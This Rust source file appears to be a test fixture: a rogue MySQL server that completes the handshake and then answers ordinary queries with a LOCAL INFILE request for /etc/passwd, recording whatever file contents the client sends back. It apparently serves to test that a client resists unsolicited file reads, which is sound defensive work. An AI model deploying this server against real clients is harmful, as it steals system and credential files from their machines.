//! A hostile MySQL server: a real MariaDB never asks for a file the client did not name, so
//! this peer does. It speaks the MySQL client/server protocol as MySQL documents it (Protocol
//! 41 handshake v10 with `mysql_native_password`, text result sets with EOF packets) and
//! answers every query but the client's own set-up queries and `USE` with a LOCAL INFILE request for
//! `/etc/passwd`, recording every byte the client sends back.

use std::sync::{Arc, Mutex};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

/// The file the server asks for.
pub const WANTED: &str = "/etc/passwd";

/// What the hostile server saw.
#[derive(Debug, Default)]
pub struct Seen {
    /// The LOCAL INFILE requests it made.
    pub requests: u32,
    /// The payloads the client sent after a request (the file, then its empty end).
    pub answers: Vec<Vec<u8>>,
    /// The queries it received.
    pub queries: Vec<String>,
}

/// The server, listening on 127.0.0.1.
pub struct HostileMysql {
    /// Its port.
    pub port: u16,
    /// What it saw.
    pub seen: Arc<Mutex<Seen>>,
    task: tokio::task::JoinHandle<()>,
}

impl Drop for HostileMysql {
    fn drop(&mut self) {
        self.task.abort();
    }
}

impl HostileMysql {
    /// Starts the server.
    pub async fn start() -> anyhow::Result<Self> {
        let listener = TcpListener::bind("127.0.0.1:0").await?;
        let port = listener.local_addr()?.port();
        let seen = Arc::new(Mutex::new(Seen::default()));
        let shared = seen.clone();
        let task = tokio::spawn(async move {
            while let Ok((stream, _)) = listener.accept().await {
                let seen = shared.clone();
                tokio::spawn(async move {
                    let _ = serve(stream, seen).await;
                });
            }
        });
        Ok(Self { port, seen, task })
    }
}

async fn read_packet(stream: &mut TcpStream) -> std::io::Result<(u8, Vec<u8>)> {
    let mut header = [0u8; 4];
    stream.read_exact(&mut header).await?;
    let length =
        usize::from(header[0]) | usize::from(header[1]) << 8 | usize::from(header[2]) << 16;
    let mut payload = vec![0; length];
    stream.read_exact(&mut payload).await?;
    Ok((header[3], payload))
}

async fn write_packet(stream: &mut TcpStream, seq: u8, payload: &[u8]) -> std::io::Result<()> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_le_bytes();
    let mut packet = vec![length[0], length[1], length[2], seq];
    packet.extend_from_slice(payload);
    stream.write_all(&packet).await
}

fn lenenc_str(out: &mut Vec<u8>, text: &str) {
    out.push(u8::try_from(text.len()).unwrap_or(250));
    out.extend_from_slice(text.as_bytes());
}

const OK: &[u8] = &[0x00, 0x00, 0x00, 0x02, 0x00, 0x00, 0x00];
const EOF: &[u8] = &[0xFE, 0x00, 0x00, 0x02, 0x00];

/// A text result set of one row.
async fn one_row(
    stream: &mut TcpStream,
    names: &[&str],
    values: &[Option<&str>],
) -> std::io::Result<()> {
    let mut seq = 1;
    write_packet(stream, seq, &[u8::try_from(names.len()).unwrap_or(0)]).await?;
    for name in names {
        seq += 1;
        let mut column = Vec::new();
        for part in ["def", "", "", "", name, name] {
            lenenc_str(&mut column, part);
        }
        column.push(0x0c);
        column.extend_from_slice(&[0x21, 0x00]); // utf8
        column.extend_from_slice(&256u32.to_le_bytes());
        column.push(0xFD); // VAR_STRING
        column.extend_from_slice(&[0x00, 0x00, 0x00, 0x00, 0x00]);
        write_packet(stream, seq, &column).await?;
    }
    seq += 1;
    write_packet(stream, seq, EOF).await?;
    let mut row = Vec::new();
    for value in values {
        match value {
            Some(value) => lenenc_str(&mut row, value),
            None => row.push(0xFB),
        }
    }
    seq += 1;
    write_packet(stream, seq, &row).await?;
    write_packet(stream, seq + 1, EOF).await
}

async fn serve(mut stream: TcpStream, seen: Arc<Mutex<Seen>>) -> std::io::Result<()> {
    // Handshake v10: CLIENT_LONG_PASSWORD | FOUND_ROWS | LONG_FLAG | CONNECT_WITH_DB |
    // LOCAL_FILES | PROTOCOL_41 | TRANSACTIONS | SECURE_CONNECTION | MULTI_STATEMENTS |
    // MULTI_RESULTS | PLUGIN_AUTH.
    let capabilities: u32 =
        0x1 | 0x2 | 0x4 | 0x8 | 0x80 | 0x200 | 0x2000 | 0x8000 | 0x1_0000 | 0x2_0000 | 0x8_0000;
    let mut hello = vec![0x0a];
    hello.extend_from_slice(b"5.7.99-hostile\0");
    hello.extend_from_slice(&7u32.to_le_bytes());
    hello.extend_from_slice(b"abcdefgh\0");
    hello.extend_from_slice(&capabilities.to_le_bytes()[..2]);
    hello.push(0x21);
    hello.extend_from_slice(&[0x02, 0x00]);
    hello.extend_from_slice(&capabilities.to_le_bytes()[2..]);
    hello.push(21);
    hello.extend_from_slice(&[0; 10]);
    hello.extend_from_slice(b"ijklmnopqrst\0");
    hello.extend_from_slice(b"mysql_native_password\0");
    write_packet(&mut stream, 0, &hello).await?;
    let (seq, _response) = read_packet(&mut stream).await?;
    write_packet(&mut stream, seq.wrapping_add(1), OK).await?;
    loop {
        let (_, command) = read_packet(&mut stream).await?;
        match command.first() {
            Some(0x03) => {}
            Some(0x0e) => {
                write_packet(&mut stream, 1, OK).await?;
                continue;
            }
            _ => return Ok(()),
        }
        let query = String::from_utf8_lossy(&command[1..]).into_owned();
        if let Ok(mut s) = seen.lock() {
            s.queries.push(query.clone());
        }
        let lower = query.to_lowercase();
        if lower.starts_with("select @@max_allowed_packet") {
            one_row(&mut stream, &["a", "b"], &[Some("4194304"), Some("28800")]).await?;
            continue;
        }
        if lower.starts_with("select database(), version()") {
            one_row(
                &mut stream,
                &["d", "v"],
                &[Some("shop"), Some("5.7.99-hostile")],
            )
            .await?;
            continue;
        }
        if lower.starts_with("use ") {
            write_packet(&mut stream, 1, OK).await?;
            continue;
        }
        // Anything else: "send me /etc/passwd".
        let mut request = vec![0xFB];
        request.extend_from_slice(WANTED.as_bytes());
        write_packet(&mut stream, 1, &request).await?;
        if let Ok(mut s) = seen.lock() {
            s.requests += 1;
        }
        let seq = loop {
            let (got, payload) = read_packet(&mut stream).await?;
            let end = payload.is_empty();
            if let Ok(mut s) = seen.lock() {
                s.answers.push(payload);
            }
            if end {
                break got;
            }
        };
        write_packet(&mut stream, seq.wrapping_add(1), OK).await?;
    }
}
